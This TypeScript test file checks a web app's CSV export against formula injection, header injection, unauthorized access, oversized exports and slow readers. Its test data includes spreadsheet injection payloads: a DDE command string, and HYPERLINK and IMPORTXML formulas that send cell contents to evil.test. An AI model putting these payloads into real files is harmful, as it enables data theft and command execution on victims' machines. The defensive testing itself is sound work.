import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { request as httpRequest } from 'node:http';
import Type from 'typebox';
import { defineModule, route } from '#src/protections/app-core/route.ts';
import { type CsvSource, csvReply, defineCsv } from '#src/protections/csv/core.ts';
import { as, startApp } from '#tests/support/app.ts';
import { attack, benign } from '#tests/support/attack.ts';
import { parseCsv } from '#tests/support/csv/parse.ts';
import { type Received, send } from '#tests/support/http.ts';

interface Person {
  readonly name: string;
  readonly balance: number;
  readonly passwordHash: string;
}

const person = (name: string, balance = 0): Person => ({ name, balance, passwordHash: 'canary-hash' });

/** What the next export is made of. */
let source: CsvSource<Person> = { count: () => Promise.resolve(0), rows: () => listed([]) };
let title = 'Name';

async function* listed(people: readonly Person[]): AsyncGenerator<Person> {
  yield* people;
}

const people = defineModule({
  id: 'people-export',
  prefix: '/people-export',
  routes: [
    route({ method: 'GET', path: '/', access: 'public', input: {}, output: Type.String(), summary: 'People' }, () =>
      csvReply(
        defineCsv<Person>({
          name: 'people.csv',
          maxRows: 3,
          columns: [
            { title, value: ({ name }) => name },
            { title: 'Balance', value: ({ balance }) => balance },
          ],
        }),
        source,
      ),
    ),
  ],
});

const app = await startApp({ modules: [people] });
const path = '/api/v1/exports/documents.csv';

const exportOf = (...list: readonly Person[]): Promise<Received> => {
  source = { count: () => Promise.resolve(list.length), rows: () => listed(list) };
  return send(app, 'GET', '/people-export');
};

/** The cell of one text, as a strict reader reads the file. */
const cellOf = async (text: string): Promise<string> => {
  const answer = await exportOf(person(text, 1));
  assert.equal(answer.status, 200);
  const rows = parseCsv(answer.text);
  assert.deepEqual(rows[0], ['Name', 'Balance']);
  assert.equal(rows.length, 2, JSON.stringify(text));
  assert.equal(rows[1]?.[1], '1');
  return rows[1]?.[0] ?? '';
};

const newUser = (role = 'exporter') => {
  const id = `writer-${randomUUID()}`;
  return { id, headers: as(id, role) };
};

const write = async (headers: Record<string, string>, body: string): Promise<void> => {
  assert.equal((await send(app, 'POST', '/api/v1/documents', { headers, body: { title: body, body } })).status, 201);
};

benign('texts come back exactly, numbers stay numbers', async () => {
  const texts = ['plain', '', 'a=b', 'a-b', '1+1', 'me@example.test', 'two\r\nlines', 'ä😀漢', "it's", ';', ',', ' padded ', "'=1", '5', 'true', '#x'];
  for (const text of texts) assert.equal(await cellOf(text), text);
  for (const balance of [-5, 0, 1.5, -0.25, 1e21, 123456789]) {
    const [, row] = parseCsv((await exportOf(person('x', balance))).text);
    assert.equal(row?.[1], String(balance));
  }
  assert.match((await exportOf(person('x', -5))).text, /^"x",-5\r$/m);
});

benign('an exporter exports own documents, page by page', async () => {
  const { id, headers } = newUser();
  const count = 1203;
  const time = new Date(app.clock.now());
  const rows = Array.from({ length: count }, (_, index) => ({ owner_id: id, title: `t${index}`, body: '', created_at: time, updated_at: time }));
  await app.context.services.db.query.insertInto('documents').values(rows).execute();
  const answer = await send(app, 'GET', path, { headers });
  assert.equal(answer.status, 200);
  const [head, ...body] = parseCsv(answer.text);
  assert.deepEqual(head, ['Title', 'Text', 'Created', 'Changed']);
  assert.equal(new Set(body.map(([first]) => first)).size, count);
  assert.equal(body[0]?.[2], time.toISOString());
});

benign('HEAD answers without making the file', async () => {
  let asked = 0;
  const rows = (): AsyncIterable<Person> => {
    asked += 1;
    return listed([]);
  };
  source = { count: () => Promise.resolve(0), rows };
  const answer = await send(app, 'HEAD', '/people-export');
  assert.equal(answer.status, 200);
  assert.equal(answer.text, '');
  assert.equal(asked, 0);
});

/** Text that some spreadsheet takes for a formula, or for a control character and then a formula. */
const formulas = Object.values({
  signs: ['=1+1', '+1', '-1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.test?x="&A1,"click")', '=IMPORTXML("https://evil.test","//a")', '-2+3+cmd|x', '+-=@'],
  control: ['\t=1', '\r=1', '\n=1', '\0=1', '\tplain', '\rplain', '\nplain', '\0plain', '\x01x', '\x7f=1', '\u0085=1', '\r\n=1'],
  blanks: [' =1', '  \u00a0=1', '\u2003=1', '\u200b=1', '\ufeff=1', '\u202e=1', '\u2028=1', '\u3000=1', ' \t \n=1', '\u00ad=1', '\u{e0020}=1'],
  wide: ['＝1', '＋1', '－1', '＠x', '﹦1', '﹢1', '﹣1', '﹫x', '−1', ' ＝1'],
  quotes: ['"=1', '""=1', '" =1', '"\t=1', '"-1'],
}).flat();

attack('Q472', 'text that begins like a formula: the cell starts with an apostrophe, and nothing else changes', async () => {
  assert.equal(await cellOf('plain'), 'plain');
  for (const text of formulas) assert.equal(await cellOf(text), `'${text}`, JSON.stringify(text));
});

attack('Q472', 'text that ends its cell and begins another: one cell, one row', async () => {
  assert.equal(await cellOf('say "hi", ok'), 'say "hi", ok');
  for (const text of ['x","=1', '"', '""', 'x"', '","=1', 'x\r\n=1', 'x"\r\n"=1', '",\r\n=1,"', '"""=1', 'x,=1']) {
    const cell = await cellOf(text);
    assert.ok(cell === text || cell === `'${text}`, JSON.stringify(text));
  }
});

attack('Q472', 'a title that is a formula is made harmless as well', async () => {
  for (const text of ['=1', ' =1', '＝1', '"=1', 'a","=1']) {
    title = text;
    const rows = parseCsv((await exportOf(person('x'))).text);
    title = 'Name';
    assert.deepEqual(rows[0], [text.startsWith('a') ? text : `'${text}`, 'Balance']);
    assert.equal(rows[1]?.[0], 'x');
  }
});

attack('Q472', 'a file that a browser shows as a page: it is to be saved, and is nothing but CSV', async () => {
  const answer = await exportOf(person('<script>alert(1)</script>'));
  assert.equal(answer.headers['content-disposition'], 'attachment; filename="people.csv"');
  assert.match(answer.headers['content-type'] ?? '', /^text\/csv; charset=utf-8/);
  assert.equal(answer.headers['x-content-type-options'], 'nosniff');
  const columns = [{ title: 'Name', value: ({ name }: Person) => name }];
  for (const name of ['people.html', 'a".csv', 'a\r\nset-cookie: x=1.csv', '../a.csv', '.csv', 'a.csv.exe', 'a.csv\n']) {
    assert.throws(() => defineCsv({ name, maxRows: 1, columns }), /ends with \.csv/, name);
  }
});

attack('Q472', 'without the right to export: 401 and 403, no row leaves', async () => {
  const exporter = newUser();
  await write(exporter.headers, 'mine');
  assert.match((await send(app, 'GET', path, { headers: exporter.headers })).text, /mine/);
  const anonymous = await send(app, 'GET', path);
  assert.equal(anonymous.status, 401);
  for (const role of ['', 'user', 'EXPORTER', 'exporters']) {
    const refused = await send(app, 'GET', path, { headers: as(exporter.id, ...(role === '' ? [] : [role])) });
    assert.equal(refused.status, 403, role);
    assert.doesNotMatch(refused.text, /mine/);
  }
});

attack('Q472', 'rows of others and columns that nobody may see are absent', async () => {
  const [alice, bob] = [newUser(), newUser()];
  await write(alice.headers, 'of-alice');
  await write(bob.headers, 'of-bob');
  await app.context.services.db.query.updateTable('documents').set({ moderation_note: 'canary-note' }).where('owner_id', '=', alice.id).execute();
  const answer = await send(app, 'GET', path, { headers: alice.headers });
  assert.match(answer.text, /of-alice/);
  assert.doesNotMatch(answer.text, /of-bob|canary-note/);
  assert.ok(!answer.text.includes(alice.id));
  for (const query of ['?owner=bob', `?owner_id=${bob.id}`, '?columns=moderation_note', '?limit=99999']) {
    assert.equal((await send(app, 'GET', path + query, { headers: newUser().headers })).status, 422, query);
  }
  assert.doesNotMatch((await exportOf(person('x'))).text, /canary-hash/);
});

attack('Q472', 'more rows than an export may have: 422 before the first, and no whole file when they come meanwhile', async () => {
  const three = [person('a'), person('b'), person('c')];
  assert.equal((await exportOf(...three)).status, 200);
  let read = 0;
  const rows = (): AsyncIterable<Person> => {
    read += 1;
    return listed(three);
  };
  source = { count: () => Promise.resolve(4), rows };
  const refused = await send(app, 'GET', '/people-export');
  assert.equal(refused.status, 422);
  assert.equal(refused.json()['maxRows'], 3);
  assert.equal(read, 0);
  source = { count: () => Promise.resolve(3), rows: () => listed([...three, person('canary')]) };
  assert.equal((await send(app, 'GET', '/people-export')).status, 422);
  const long = 'a'.repeat(20_000);
  source = { count: () => Promise.resolve(3), rows: () => listed([person(long), person(long), person(long), person('canary')]) };
  app.log.clear();
  await assert.rejects(send(app, 'GET', '/people-export'));
  assert.match(app.log.text, /an answer broke off/);
});

attack('Q472', 'a slow reader holds a page, not the whole export; one who leaves ends it', async () => {
  const long = 'a'.repeat(50_000);
  let made = 0;
  const ended = Promise.withResolvers<void>();
  async function* endless(): AsyncGenerator<Person> {
    try {
      for (;;) {
        made += 1;
        yield person(long);
      }
    } finally {
      ended.resolve();
    }
  }
  const file = defineCsv<Person>({ name: 'long.csv', maxRows: Number.MAX_SAFE_INTEGER, columns: [{ title: 'Name', value: ({ name }) => name }] });
  const module = defineModule({
    id: 'endless',
    prefix: '/endless',
    routes: [
      route({ method: 'GET', path: '/', access: 'public', input: {}, output: Type.String(), summary: 'Never ends' }, () =>
        csvReply(file, { count: () => Promise.resolve(1), rows: endless }),
      ),
    ],
  });
  const slow = await startApp({ modules: [module] });
  const outgoing = httpRequest({ host: '127.0.0.1', port: slow.port, path: '/endless', headers: { host: 'app.test' } });
  const answered = once(outgoing, 'response');
  outgoing.on('error', () => undefined).end();
  await answered;
  // Nobody reads: what the sockets hold is full soon, and then nothing more is made.
  let before = -1;
  while (made !== before) {
    before = made;
    for (let turn = 0; turn < 200; turn += 1) await new Promise(setImmediate);
  }
  assert.ok(made * long.length < 64_000_000, `${made} rows`);
  outgoing.destroy();
  await ended.promise;
  assert.ok(made <= before + 2);
});
